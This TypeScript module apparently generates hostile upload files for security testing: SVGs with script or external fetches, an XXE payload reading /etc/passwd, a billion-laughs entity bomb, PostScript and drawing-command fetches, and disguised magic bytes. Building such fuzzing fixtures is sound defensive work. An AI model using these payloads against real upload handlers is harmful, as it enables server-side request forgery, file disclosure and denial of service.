import { gzipSync } from 'node:zlib'
import { pickByIndex, pick, text, type HostileFile, type Recipe, type RecipeInput } from './hostile-file.ts'
import { generatePicture } from './pictures.ts'
import { zipWith } from './zip.ts'

const open =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">'

const svgBodies: ((turn: RecipeInput) => string)[] = [
  ({ canary }) => `<script>alert("${canary}")</script>`,
  ({ bait }) => `<image xlink:href="${bait}" width="400" height="400"/>`,
  ({ bait }) => `<use href="${bait}#a"/><style>@import url("${bait}"); rect{fill:url(${bait})}</style><rect/>`,
  ({ bait }) => `<foreignObject width="400" height="400"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${bait}"/></foreignObject>`,
  ({ bait }) => `<filter id="f"><feImage href="${bait}"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  () => '<image href="file:///etc/passwd" width="400" height="400"/>',
] // prettier-ignore

/** Returns an SVG that runs a script or fetches a URL when it is rendered. */
export const svgWith = (turn: RecipeInput): string => `${open}${pick(svgBodies, turn.random)(turn)}</svg>`

const xmlWithEntity = ({ bait, canary }: RecipeInput) =>
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "${bait}">%remote;<!ENTITY e SYSTEM "file:///etc/passwd">]>` +
  `${open}<text>&e;${canary}</text></svg>`

const billionLaughs = () => {
  const levels = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`)
  return `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${levels.join('')}]>${open}<text>&l9;</text></svg>`
}

type Kind = { what: string; make: (turn: RecipeInput) => Buffer | Promise<Buffer> }

const random = ({ random: next }: RecipeInput, bytes: number) =>
  Buffer.from(Uint8Array.from({ length: bytes }, () => Math.floor(next() * 256)))
const after = (magic: string): Kind['make'] => (turn) => Buffer.concat([text(magic), random(turn, 2000)]) // prettier-ignore

const kinds: Kind[] = [
  { what: 'SVG', make: (turn) => text(svgWith(turn)) },
  { what: 'SVG, compressed', make: (turn) => gzipSync(svgWith(turn)) },
  { what: 'SVG behind a byte order mark', make: (turn) => Buffer.from(`\ufeff${svgWith(turn)}`) },
  { what: 'XML with an external entity', make: (turn) => text(xmlWithEntity(turn)) },
  { what: 'XML with nested entities', make: () => text(billionLaughs()) },
  { what: 'program', make: after('\x7fELF\x02\x01\x01') },
  { what: 'Windows program', make: after('MZ\x90\0') },
  { what: 'ZIP', make: ({ canary }) => zipWith('a.jpg', canary) },
  { what: 'PDF', make: ({ bait }) => text(`%PDF-1.7 <</S/URI/URI(${bait})>>`) },
  { what: 'HTML page', make: ({ bait }) => text(`<!doctype html><script src="${bait}"></script>`) },
  { what: 'PostScript', make: ({ bait }) => text(`%!PS-Adobe-3.0 EPSF-3.0\n(${bait}) run`) },
  { what: 'drawing commands', make: ({ bait }) => text(`push graphic-context\nfill 'url(${bait})'\npop graphic-context`) },
  { what: 'TIFF', make: ({ index }) => generatePicture(index, { width: 400, height: 400 }).tiff().toBuffer() },
  { what: 'bitmap', make: after('BM\x36\x84\x03\0\0\0\0\0\x36\0\0\0') },
  { what: 'Photoshop file', make: after('8BPS\0\x01') },
  { what: 'HEIC', make: after('\0\0\0\x18ftypheic\0\0\0\0mif1heic') },
  { what: 'video', make: after('\0\0\0\x18ftypisom\0\0\0\0isommp42') },
  { what: 'HEIF with random content', make: after('\0\0\0\x18ftypmif1\0\0\0\0mif1heic') },
  { what: 'JPEG XL', make: after('\xff\x0a') },
  { what: 'audio in a RIFF', make: after('RIFF\0\0\0\0WAVE') },
  { what: 'noise', make: (turn) => random(turn, 5000) },
  { what: 'noise behind the magic of a JPEG', make: after('\xff\xd8\xff\xdb') },
  { what: 'noise behind the magic of a GIF', make: after('GIF89a') },
  { what: 'form', make: ({ canary }) => text(`--b\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n${canary}\r\n--b--`) },
] // prettier-ignore

const types = ['image/jpeg', 'image/png', 'image/webp', 'image/avif', 'image/svg+xml', 'text/html', 'application/json', 'multipart/form-data; boundary=b'] as const // prettier-ignore

export const disguised: Recipe = async (turn): Promise<HostileFile> => {
  const { what, make } = pickByIndex(kinds, turn.index)
  return { what, bytes: await make(turn), contentType: pick(types, turn.random) }
}
